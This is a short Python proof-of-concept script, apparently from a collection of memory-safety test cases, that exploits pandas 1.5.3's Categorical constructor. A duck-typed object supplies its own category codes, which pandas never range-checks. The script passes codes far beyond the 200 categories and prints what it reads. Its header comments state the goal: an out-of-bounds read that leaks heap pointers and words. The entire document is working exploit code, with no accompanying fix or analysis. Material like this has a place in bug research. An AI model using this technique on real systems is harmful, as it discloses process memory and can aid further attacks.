# source: pandas 1.5.3 pandas/core/arrays/categorical.py Categorical.__init__: for values whose dtype is categorical it takes extract_array(values)._codes and recode_for_categories() returns them unchanged when the categories are equal (no range check); pandas/core/array_algos/take.py take_nd and _libs/groupby.pyx group_sum index with them unchecked
# family: duck-typed categorical: a script object with a CategoricalDtype .dtype and its own _codes handed to pd.Categorical; codes never range-checked
# goal: out-of-bounds read of the process heap (prints values past the 200-element categories array: pointers and heap words)
import numpy as np
import pandas as pd


class Book:
    def __init__(self, n, codes):
        self.levels = pd.CategoricalDtype(list(range(n)))
        self._codes = np.array(codes, dtype="int64")

    @property
    def dtype(self):
        return self.levels

    def __iter__(self):
        return iter([])

    def __len__(self):
        return len(self._codes)


book = Book(200, [0, 1, 199, 200, 201, 202, 203, 4000, 20000])
cat = pd.Categorical(book)
print("categories:", len(cat.categories), "codes:", list(cat.codes))
print("values read:", list(np.asarray(cat)))
